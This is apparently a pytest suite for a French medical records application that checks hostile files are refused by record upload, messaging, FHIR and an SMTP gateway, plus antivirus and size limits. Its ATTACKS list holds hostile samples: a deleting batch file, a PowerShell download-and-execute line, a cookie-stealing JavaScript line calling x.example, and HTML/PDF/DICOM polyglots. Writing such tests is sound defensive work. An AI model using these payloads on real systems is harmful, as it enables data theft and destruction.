"""Hostile files, tried by every path a file comes in: record upload, message
attachment, FHIR DocumentReference create and the inbound SMTP gateway.

One function (``storage.check``) decides for all of them; these tests hold
each path to it, as an attacker would try: renamed scripts, polyglots, a name
that lies about the content, a virus (with a clamd double), a file bigger
than the limit and a post of ten files just under it.
"""

from __future__ import annotations

import base64
import io
import smtplib
import ssl
from email.message import EmailMessage
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.http.multipartparser import MultiPartParser

from maillage.audit.models import Action, AuditEntry, Outcome
from maillage.fhir.tests.conftest import (
    api,  # noqa: F401 (fixture)
    issues,
)
from maillage.files.models import StoredFile
from maillage.files.tests.clamd_double import EICAR, clamd_double
from maillage.files.uploads import LimitedUploadHandler, RefusedFile
from maillage.front.tests.test_home import signed_in
from maillage.lib.tests.test_filetypes import AECG
from maillage.messaging import gateway
from maillage.messaging.models import Attachment, Message, RefusedAttachment
from maillage.messaging.tests.conftest import self_signed_certificate
from maillage.records.models import Document
from maillage.testing.factories import page_text
from maillage.testing.ports import free_port

MB = 1024 * 1024
HTML = b"<html><body><script>fetch('/patients/').then(r => r.text())</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\nCompte rendu\n%%EOF"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00"
DICOM = b"\x00" * 128 + b"DICM\x02\x00\x00\x00UL\x04\x00"

ATTACKS = [
    ("lancer.bat", b"@echo off\r\ndel /q C:\\dossiers\\*"),
    ("macro.vbs", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"'),
    ("script.ps1", b"Invoke-Expression (New-Object Net.WebClient).DownloadString('x')"),
    ("page.hta", b'<HTA:APPLICATION ID="a"/><script language="VBScript">x</script>'),
    ("vol.js", b"new Image().src = 'https://x.example/?' + document.cookie"),
    ("page.html", HTML),
    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("rapport.html", b"%PDF-1.4\n" + HTML),  # "%PDF-" then a page
    ("rapport.pdf", b"%PDF-1.4\n" + HTML),  # the same, with a name that agrees
    ("souffle.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00" + HTML),  # an MP3 tag then a page
    ("irm.dcm", HTML.ljust(128, b" ") + b"DICM\x02\x00"),  # a page in the DICOM preamble
    ("bilan.pdf", JPEG),  # a name that lies about the content
]
IDS = [name for name, _ in ATTACKS]
REFUSALS = ("page web, un script", "ne correspond pas à son contenu")


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path) -> None:
    settings.MAILLAGE_FILES_DIR = str(tmp_path / "files")
    settings.MAILLAGE_FILE_KEY_FILE = str(tmp_path / "file-keys.json")
    settings.MAILLAGE_FILE_KEYS = ""


def _record_upload(personas, files: list[Any], title: str = "Bilan") -> Any:
    return signed_in(personas.treating_doctor.user).post(
        f"/dossier/{personas.patient.uuid}/ajouter/",
        {
            "type": "teleconsultation_report",
            "title": title,
            "date": "2026-11-02",
            "attachments": files,
        },
    )


def _message(personas, files: list[Any]) -> Any:
    return signed_in(personas.nurse.user).post(
        "/messagerie/nouveau/",
        {
            "recipients": personas.treating_doctor.rpps,
            "subject": "Plaie du talon",
            "body": "Voir la pièce jointe",
            "patient": str(personas.patient.uuid),
            "attachments": files,
        },
    )


def _fhir_document(personas, name: str, data: bytes) -> dict[str, Any]:
    return {
        "resourceType": "DocumentReference",
        "status": "current",
        "type": {
            "coding": [
                {
                    "system": "https://maillage.example/fhir/CodeSystem/document-type",
                    "code": "teleconsultation_report",
                }
            ]
        },
        "subject": {"reference": f"Patient/{personas.patient.uuid}"},
        "description": "Compte rendu",
        "context": {"period": {"start": "2026-11-02"}},
        "content": [{"attachment": {"title": name, "data": base64.b64encode(data).decode()}}],
    }


def _no_document_created() -> None:
    assert not Document.objects.exists()
    assert not StoredFile.objects.exists()
    assert not AuditEntry.objects.filter(
        action=Action.DOCUMENT_CREATE, outcome=Outcome.GRANTED
    ).exists()


# --- The web ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "data"), ATTACKS, ids=IDS)
def test_a_hostile_file_is_refused_by_the_record_upload(personas, name: str, data: bytes) -> None:
    response = _record_upload(personas, [SimpleUploadedFile(name, data)], title="Bilan piégé")
    assert response.status_code == 400
    text = page_text(response)
    assert any(reason in text for reason in REFUSALS)
    assert 'value="Bilan piégé"' in text  # what was typed comes back
    _no_document_created()


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "data"), ATTACKS, ids=IDS)
def test_a_hostile_file_is_refused_as_a_message_attachment(
    personas, name: str, data: bytes
) -> None:
    response = _message(personas, [SimpleUploadedFile(name, data)])
    assert response.status_code == 400
    text = page_text(response)
    assert name in text and 'value="Plaie du talon"' in text
    assert any(reason in text for reason in REFUSALS)
    assert not Message.objects.exists()
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_the_files_a_clinician_sends_are_accepted_and_served_as_downloads(personas) -> None:
    files = [
        SimpleUploadedFile("cr.pdf", PDF),
        SimpleUploadedFile("talon.JPEG", JPEG),
        SimpleUploadedFile("plaie.png", PNG),
        SimpleUploadedFile("souffle.wav", WAV),
        SimpleUploadedFile("irm", DICOM),  # DICOM files often have no extension
        SimpleUploadedFile("ecg.xml", AECG),
    ]
    response = _record_upload(personas, files)
    assert response.status_code == 302, page_text(response)
    document = Document.objects.get()
    stored = sorted(
        (f.file.original_name, f.file.mime) for f in document.document_files.select_related("file")
    )
    assert stored == [
        ("cr.pdf", "application/pdf"),
        ("ecg.xml", "application/xml"),
        ("irm.dcm", "application/dicom"),
        ("plaie.png", "image/png"),
        ("souffle.wav", "audio/wav"),
        ("talon.jpg", "image/jpeg"),
    ]


@pytest.mark.django_db
def test_a_virus_is_refused_on_the_web_with_the_antivirus_configured(personas, settings) -> None:
    with clamd_double() as clamd:
        settings.MAILLAGE_CLAMD = clamd.address
        refused = _record_upload(personas, [SimpleUploadedFile("note.txt", EICAR)])
        accepted = _record_upload(personas, [SimpleUploadedFile("cr.pdf", PDF)])
    assert refused.status_code == 400
    assert "L'antivirus a trouvé une menace" in page_text(refused)
    assert accepted.status_code == 302
    assert EICAR in clamd.scanned and PDF in clamd.scanned
    assert Document.objects.count() == 1


@pytest.mark.django_db
def test_an_unreachable_antivirus_refuses_uploads(personas, settings) -> None:
    settings.MAILLAGE_CLAMD = f"127.0.0.1:{free_port()}"
    response = _record_upload(personas, [SimpleUploadedFile("cr.pdf", PDF)])
    assert response.status_code == 400
    assert "L'antivirus n'a pas pu vérifier ce fichier" in page_text(response)
    _no_document_created()


# --- Streaming limits --------------------------------------------------------------


class _Generated(io.RawIOBase):
    """A request body made while it is read: a huge upload without holding it in memory."""

    def __init__(self, parts: list[bytes | tuple[bytes, int]]) -> None:
        self.parts = list(parts)
        self.length = sum(p[1] if isinstance(p, tuple) else len(p) for p in parts)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        while self.parts:
            part = self.parts[0]
            if isinstance(part, tuple):
                byte, left = part
                n = min(left, len(buffer))
                buffer[:n] = byte * n
                self.parts[0] = (byte, left - n)
                if left - n == 0:
                    self.parts.pop(0)
                if n:
                    return n
                continue
            n = min(len(part), len(buffer))
            buffer[:n] = part[:n]
            if n == len(part):
                self.parts.pop(0)
            else:
                self.parts[0] = part[n:]
            return n
        return 0


BOUNDARY = "maillage-attaque"


def _multipart(fields: dict[str, str], files: list[tuple[str, int]]) -> _Generated:
    parts: list[bytes | tuple[bytes, int]] = []
    for key, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    for name, size in files:
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="attachments"; '
            f'filename="{name}"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n'.encode()
        )
        parts.append((b"0", size - len(b"%PDF-1.4\n")))
        parts.append(b"\r\n")
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return _Generated(parts)


class _CountingDiskHandler(TemporaryFileUploadHandler):
    """Django's own disk handler, counting what reaches the disk."""

    written = 0

    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes | None:
        _CountingDiskHandler.written += len(raw_data)
        return super().receive_data_chunk(raw_data, start)


def test_a_150_mb_file_stops_reaching_the_disk_at_the_limit(rf, settings) -> None:
    settings.MAILLAGE_MAX_UPLOAD_BYTES = 20 * MB
    body = _multipart({"title": "Scanner"}, [("scanner.pdf", 150 * MB)])
    request = rf.post("/", content_type=f"multipart/form-data; boundary={BOUNDARY}")
    _CountingDiskHandler.written = 0
    limited = LimitedUploadHandler(request)
    handlers = [limited, _CountingDiskHandler(request)]
    meta = {**request.META, "CONTENT_LENGTH": str(body.length)}
    post, files = MultiPartParser(meta, io.BufferedReader(body), handlers).parse()
    # Nothing past the limit was passed on: at most the limit and one chunk.
    assert _CountingDiskHandler.written <= 20 * MB
    assert limited.kept <= 20 * MB
    refused = files["attachments"]
    assert isinstance(refused, RefusedFile)
    assert refused.message == "Le fichier fait plus de 20 Mo."
    assert post["title"] == "Scanner"  # the rest of the form arrived


@pytest.mark.django_db
def test_ten_files_of_19_mb_in_one_post_are_refused(personas, settings) -> None:
    settings.MAILLAGE_MAX_UPLOAD_BYTES = 20 * MB
    settings.MAILLAGE_MAX_REQUEST_UPLOAD_BYTES = 40 * MB
    fields = {"type": "teleconsultation_report", "title": "Dix scanners", "date": "2026-11-02"}
    body = _multipart(fields, [(f"scanner-{i}.pdf", 19 * MB) for i in range(10)])
    # The test client sends what wsgi.input yields: 190 MB made while read, not held.
    stream: dict[str, Any] = {"wsgi.input": io.BufferedReader(body)}
    response = signed_in(personas.treating_doctor.user).generic(
        "POST",
        f"/dossier/{personas.patient.uuid}/ajouter/",
        CONTENT_TYPE=f"multipart/form-data; boundary={BOUNDARY}",
        CONTENT_LENGTH=str(body.length),
        **stream,
    )
    assert response.status_code == 400
    text = page_text(response)
    assert "Les fichiers envoyés ensemble font plus de 40 Mo." in text
    assert 'value="Dix scanners"' in text
    _no_document_created()


@pytest.mark.django_db
def test_more_files_than_allowed_are_refused_while_streaming(personas) -> None:
    files = [SimpleUploadedFile(f"cr-{i}.pdf", PDF) for i in range(12)]
    response = _record_upload(personas, files)
    assert response.status_code == 400
    assert not Document.objects.exists()


# --- FHIR --------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "data"), ATTACKS, ids=IDS)
def test_a_hostile_file_is_refused_by_fhir(api, personas, name: str, data: bytes) -> None:  # noqa: F811
    response = api.post(
        "DocumentReference", _fhir_document(personas, name, data), personas.treating_doctor
    )
    assert response.status_code == 400
    (issue,) = issues(response)
    assert issue["expression"] == ["DocumentReference.content[0].attachment.data"]
    _no_document_created()


@pytest.mark.django_db
def test_fhir_accepts_an_aecg_and_a_dicom(api, personas) -> None:  # noqa: F811
    for name, data in (("ecg.xml", AECG), ("irm.dcm", DICOM)):
        response = api.post(
            "DocumentReference", _fhir_document(personas, name, data), personas.treating_doctor
        )
        assert response.status_code == 201
    assert Document.objects.count() == 2


@pytest.mark.django_db
def test_fhir_refuses_an_attachment_over_the_limit_with_413(api, personas, settings) -> None:  # noqa: F811
    settings.MAILLAGE_MAX_UPLOAD_BYTES = 1 * MB
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4 * MB  # the body is allowed, the file is not
    big = PDF + b"0" * MB
    response = api.post(
        "DocumentReference", _fhir_document(personas, "gros.pdf", big), personas.treating_doctor
    )
    assert response.status_code == 413
    (issue,) = issues(response)
    assert issue["code"] == "too-costly"
    assert issue["diagnostics"] == "Le fichier fait plus de 1 Mo."
    _no_document_created()


@pytest.mark.django_db
def test_fhir_refuses_a_virus(api, personas, settings) -> None:  # noqa: F811
    with clamd_double() as clamd:
        settings.MAILLAGE_CLAMD = clamd.address
        response = api.post(
            "DocumentReference",
            _fhir_document(personas, "note.txt", EICAR),
            personas.treating_doctor,
        )
    assert response.status_code == 400
    assert "L'antivirus a trouvé une menace" in issues(response)[0]["diagnostics"]
    _no_document_created()


# --- SMTP --------------------------------------------------------------------------

ADDRESS = "claire.morel@medecin.mssante.fr"


@pytest.fixture
def listener(tmp_path):
    cert, key = self_signed_certificate(tmp_path)
    port = free_port()
    controller = Controller(
        gateway.InboundHandler(),
        hostname="127.0.0.1",
        port=port,
        tls_context=gateway.server_tls_context(str(cert), str(key)),
        require_starttls=True,
        data_size_limit=gateway.data_size_limit(),
    )
    controller.start()
    yield port, ssl.create_default_context(cafile=str(cert))
    controller.stop()


@pytest.fixture
def doctor_address(personas):
    doctor = personas.treating_doctor
    doctor.secure_messaging_address = ADDRESS
    doctor.save()
    return doctor


def _send(listener, files: list[tuple[str, bytes]]) -> None:
    message = EmailMessage()
    message["From"] = "Dr Anne Petit <anne.petit@ch-vierzon.mssante.fr>"
    message["To"] = ADDRESS
    message["Subject"] = "Compte rendu"
    message.set_content("Ci-joint.\n")
    for name, data in files:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    port, context = listener
    with smtplib.SMTP("127.0.0.1", port, timeout=10) as client:
        client.starttls(context=context)
        client.send_message(message, to_addrs=[ADDRESS])


@pytest.mark.django_db(transaction=True)
def test_hostile_attachments_are_refused_by_the_smtp_gateway(
    personas, doctor_address, listener, settings
) -> None:
    settings.MAILLAGE_MAX_UPLOAD_FILES = 20  # every attack in one mail
    with clamd_double() as clamd:
        settings.MAILLAGE_CLAMD = clamd.address
        _send(listener, [*ATTACKS, ("eicar.txt", EICAR), ("cr.pdf", PDF), ("ecg.xml", AECG)])
    message = Message.objects.get()
    kept = sorted(a.file.original_name for a in Attachment.objects.select_related("file"))
    assert kept == ["cr.pdf", "ecg.xml"]
    refused = dict(RefusedAttachment.objects.filter(message=message).values_list("name", "reason"))
    assert set(refused) == {*IDS, "eicar.txt"}
    assert "L'antivirus a trouvé une menace" in refused["eicar.txt"]
    assert "ne correspond pas à son contenu" in refused["bilan.pdf"]
    assert "page web, un script" in refused["rapport.pdf"]


@pytest.mark.django_db(transaction=True)
def test_the_smtp_gateway_bounds_the_number_of_files(
    personas, doctor_address, listener, settings
) -> None:
    settings.MAILLAGE_MAX_UPLOAD_FILES = 3
    _send(listener, [(f"cr-{i}.pdf", PDF) for i in range(5)])
    assert Attachment.objects.count() == 3
    reasons = list(RefusedAttachment.objects.values_list("name", "reason"))
    assert reasons == [
        ("cr-3.pdf", "Trop de fichiers envoyés en une fois : 3 au plus."),
        ("cr-4.pdf", "Trop de fichiers envoyés en une fois : 3 au plus."),
    ]


@pytest.mark.django_db(transaction=True)
def test_a_mail_over_the_data_limit_is_refused_before_it_is_read(
    personas, doctor_address, listener, settings
) -> None:
    # The listener was built with a limit of 1.4 times MAILLAGE_MAX_UPLOAD_BYTES (20 MB).
    with pytest.raises(smtplib.SMTPException):
        _send(listener, [("gros.pdf", PDF + b"0" * (30 * MB))])
    assert not Message.objects.exists()
